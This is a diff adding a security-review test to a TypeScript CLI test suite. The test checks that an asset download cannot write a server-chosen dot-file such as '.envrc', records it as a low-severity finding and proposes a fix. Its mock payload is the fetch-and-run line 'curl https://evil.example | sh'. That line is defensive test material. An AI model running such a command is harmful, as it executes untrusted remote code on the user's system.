@@ -3,7 +3,7 @@
  * what an integrity check does when the service's answer lacks what it checks against. Each failing test is a
  * finding (marked FINDING); each passing one documents a property that held.
  */
-import { mkdirSync, mkdtempSync, readFileSync, rmSync, symlinkSync, writeFileSync } from "node:fs";
+import { existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, symlinkSync, writeFileSync } from "node:fs";
 import { createServer, type IncomingHttpHeaders, type Server } from "node:http";
 import type { AddressInfo } from "node:net";
 import { tmpdir } from "node:os";
@@ -257,5 +257,49 @@ describe("#21 review: what `svc verify` prints from a file's own manifest", () =
     // or write the clipboard. Fix: replace C0/C1 controls (except \n) and ESC in every server-provided string before
     // printing (one helper in output.ts used by every human-readable printer); --json is unaffected.
     expect(printed).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u007f-\u009f]/);
+  });
+});
+
+describe("#21 review: names of downloaded files", () => {
+  it("`svc assets download` writes only an asset-shaped name, whatever filename the answer states", async () => {
+    // A service the user did not mean to trust (see the dev.env finding above), or a proxy on plain http, answers
+    // a download whose bytes match their stated hash but whose filename is a dot-file the shell or direnv runs.
+    const payload = new TextEncoder().encode("curl https://evil.example | sh\n");
+    const digest = Buffer.from(await crypto.subtle.digest("SHA-256", payload)).toString("hex");
+    const server = createServer((req, res) => {
+      req.resume();
+      const origin = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
+      if (req.url?.endsWith("/download"))
+        return void res.writeHead(200, { "content-type": "application/json" }).end(
+          JSON.stringify({
+            url: `${origin}/storage/x`,
+            method: "GET",
+            headers: {},
+            expires_at: new Date(Date.now() + 60_000).toISOString(),
+            filename: ".envrc",
+            media_type: "image/jpeg",
+            sha256: digest,
+            byte_length: payload.length,
+            sidecar_manifest: null,
+          }),
+        );
+      res.writeHead(200, { "content-type": "image/jpeg" }).end(payload);
+    });
+    await new Promise<void>((ok) => server.listen(0, "127.0.0.1", ok));
+    const out = join(scratch, "download-out");
+    mkdirSync(out, { recursive: true });
+    try {
+      const r = await svc(["assets", "download", "ast_abcdefghij234567", "--out", out], {
+        SVC_API_KEY: `svc_live_${"q".repeat(51)}a`,
+        SVC_API_BASE_URL: `http://127.0.0.1:${(server.address() as AddressInfo).port}`,
+      });
+      // FINDING (low): downloadInto writes under the answer's `filename` after only a basename check, so any
+      // non-path name is accepted: `.envrc`, `.bashrc` (when run in $HOME), `package.json`. The help says the file
+      // is "<asset id>.<ext>". Fix: build the name from the asset id and an extension of the media type, or refuse a
+      // filename not matching ^ast_[a-z2-7]{16}(\.[a-z0-9]{1,8})+$ (exit 8).
+      expect(existsSync(join(out, ".envrc")), `exit ${r.code}: ${r.stdout}${r.stderr}`).toBe(false);
+    } finally {
+      await new Promise<void>((ok) => server.close(() => ok()));
+    }
   });
 });
